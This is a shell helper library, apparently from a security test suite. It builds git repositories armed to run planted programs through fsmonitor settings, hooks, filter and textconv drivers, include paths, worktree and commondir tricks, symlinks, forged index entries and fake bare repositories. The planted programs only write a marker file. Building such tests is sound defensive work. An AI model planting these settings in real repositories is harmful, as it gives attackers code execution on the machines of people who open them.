# Functions for the scripts of the attacks.
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a GIT_COMMITTER_NAME=A GIT_COMMITTER_EMAIL=a
unset GIT_CONFIG_COUNT GIT_CONFIG_PARAMETERS GIT_CONFIG_SYSTEM
# Without the limit, git would wait forever for a filter that does not answer.
git() { timeout 5 git "$@"; }
# Writes the program $1, which records the number $2 when it runs.
evil() {
    mkdir -p "$(dirname "$1")"
    printf '#!/bin/sh\necho "%s $0" >>"%s/pwned"\ncat\n' "$2" "$HOME" >"$1"
    chmod 755 "$1"
}
# Prints settings that run a program with the number $1.
monitor() { evil "$PWD/evil.$1" "$1"; printf '[core]\n\tfsmonitor = %s\n' "$PWD/evil.$1"; }
hooks() { for hook in post-index-change pre-commit post-checkout reference-transaction; do evil "$1/$hook" "$2"; done; }
# Makes the git directory $1 run programs with the number $2. $3 is the kind of attack.
arm() {
    case $3 in
    monitor) monitor "$2" >>"$1/config" ;;
    monitor-and-hooks) monitor "$2" >>"$1/config"; hooks "$1/hooks" "$2" ;;
    hooks) hooks "$1/hooks" "$2" ;;
    hooks-path) hooks "$PWD/other.hooks" "$2"; printf '[core]\n\thooksPath = %s\n' "$PWD/other.hooks" >>"$1/config" ;;
    include) monitor "$2" >settings; printf '[include]\n\tpath = %s\n' "$PWD/settings" >>"$1/config" ;;
    include-if) monitor "$2" >settings; printf '[includeIf "gitdir:**"]\n\tpath = %s\n' "$PWD/settings" >>"$1/config" ;;
    filter)
        evil "$PWD/evil.$2" "$2"; mkdir -p "$1/info"; echo '* filter=x diff=x' >"$1/info/attributes"
        printf '[filter "x"]\n\tclean = %s\n[diff "x"]\n\ttextconv = %s\n' "$PWD/evil.$2" "$PWD/evil.$2" >>"$1/config" ;;
    worktree-settings)
        printf '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n' >>"$1/config"
        monitor "$2" >"$1/config.worktree" ;;
    worktree-settings-alone) monitor "$2" >"$1/config.worktree" ;;
    commondir) cp -r "$1" armed; rm -f armed/commondir; monitor "$2" >>armed/config; echo "$PWD/armed" >"$1/commondir" ;;
    settings-link) cp "$1/config" settings; monitor "$2" >>settings; rm -f "$1/config"; ln -s "$PWD/settings" "$1/config" ;;
    hooks-link) hooks "$PWD/other.hooks" "$2"; rm -rf "$1/hooks"; ln -s "$PWD/other.hooks" "$1/hooks" ;;
    work-tree) mkdir -p other; git init -q other/deeper; monitor "$2" >>other/deeper/.git/config
        git -C "$1" config core.worktree "$PWD/other"
        GIT_DIR=$1 git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,deeper ;;
    esac
}
# Makes a repository with one commit in the folder $1.
made() { git init -q -b main "$1" && echo x >"$1/x" && git -C "$1" add x && git -C "$1" commit -qm one && touch -d 2001-01-01 "$1/x"; }
# Gives the repository in the folder $1 the form $2.
formed() {
    case $2 in
    pointer) mv "$1/.git" hidden && echo "gitdir: $PWD/hidden" >"$1/.git" ;;
    pointer-relative) mv "$1/.git" "$1/hidden" && printf 'gitdir: ./hidden' >"$1/.git" ;;
    link) mv "$1/.git" hidden && ln -s "$PWD/hidden" "$1/.git" ;;
    link-to-pointer) mv "$1/.git" hidden && echo "gitdir: $PWD/hidden" >pointer && ln -s "$PWD/pointer" "$1/.git" ;;
    in-modules) mkdir -p .git/modules && mv "$1/.git" .git/modules/planted && echo "gitdir: $PWD/.git/modules/planted" >"$1/.git" ;;
    closed) chmod 555 "$1" ;;
    esac
}
named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
# Names the folder $1 in the index. $2 is the kind of entry.
index() {
    case $2 in
    named) named "$1" ;;
    committed) named "$1" && git commit -qm planted ;;
    four) named "$1" && git update-index --index-version 4 ;;
    split) named "$1" && git update-index --split-index ;;
    replaced) rm -rf saved && mv "$1" saved && echo x >"$1" && git add "$1" && git -c splitIndex.maxPercentChange=100 update-index --split-index
        rm "$1" && mv saved "$1" && git -c splitIndex.maxPercentChange=100 update-index --replace --cacheinfo "160000,1111111111111111111111111111111111111111,$1" ;;
    sparse) named "$1" && git commit -qm planted && git config core.sparseCheckout true ;;
    bytes) cp "$HOME/index" "$(git rev-parse --git-path index)" ;;
    long) python3 - "$1" "$(git rev-parse --git-path index)" <<'END'
import hashlib, os, struct, sys
left = 4093 - len(os.getcwd())
names = ['d' * 200] * (left // 201 - 1)
names.append('e' * (left - len('/'.join(names)) - 2))
top = os.open('.', os.O_RDONLY)
for name in names:
    os.mkdir(name)
    os.chdir(name)
os.rename(sys.argv[1] + '/.git', '.git', src_dir_fd=top)
os.fchdir(top)
name = '/'.join(names).encode()
entry = bytes(24) + struct.pack('>I', 0o160000) + bytes(12) + bytes(19) + b'1' + struct.pack('>H', len(name)) + name
text = b'DIRC' + struct.pack('>II', 2, 1) + entry + bytes(8 - len(entry) % 8)
open(sys.argv[2], 'wb').write(text + hashlib.sha1(text).digest())
END
    ;;
    esac
}
# Adds a program with the number $2 to the index $1, under the name $3, which git would refuse.
forged() {
    evil forged.program "$2"
    python3 - "$1" "$3" "$(git hash-object -w forged.program)" <<'END'
import hashlib, struct, subprocess, sys
path, name, new = sys.argv[1:]
listed = subprocess.run(['git', 'ls-files', '-s', '-z'], stdout=-1, check=True).stdout
entries = [(name.encode(), 0o100755, new.encode())]
for line in listed.split(b'\0')[:-1]:
    mode, id, rest = line.split(b' ', 2)
    entries.append((rest.split(b'\t', 1)[1], int(mode, 8), id))
index = b'DIRC' + struct.pack('>II', 2, len(entries))
for name, mode, id in sorted(entries):
    entry = bytes(24) + struct.pack('>I', mode) + bytes(12) + bytes.fromhex(id.decode()) + struct.pack('>H', len(name)) + name
    index += entry + bytes(8 - len(entry) % 8)
open(path, 'wb').write(index + hashlib.sha1(index).digest())
END
}
# Makes `git rerere` treat the file $2 as one with a conflict, whose id is the number $1.
conflict() {
    id=$(printf %040d "$1"); mkdir -p "$(git rev-parse --git-common-dir)/rr-cache/$id"
    : >"$(git rev-parse --git-common-dir)/rr-cache/$id/preimage"
    printf '%s\t%s\0' "$id" "$2" >"$(git rev-parse --git-dir)/MERGE_RR"
}
# Makes the project itself a bare repository with the number $1. $2 is the kind of repository.
bare() {
    mkdir -p objects refs/heads
    echo 'ref: refs/heads/main' >HEAD
    printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n' "$PWD" >config
    monitor "$1" >>config
    case $2 in
    files) rm -rf objects refs; echo x >objects; cp objects refs; chmod 755 objects refs ;;
    detached) echo 1111111111111111111111111111111111111111 >HEAD ;;
    link) rm HEAD; ln -s refs/heads/main HEAD ;;
    elsewhere)
        mkdir other; mv objects refs config other/; echo other >commondir
        printf '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n' >other/config
        monitor "$1" >>other/config
        printf '[core]\n\tbare = false\n\tworktree = %s\n' "$PWD" >config.worktree
        ;;
    esac
}
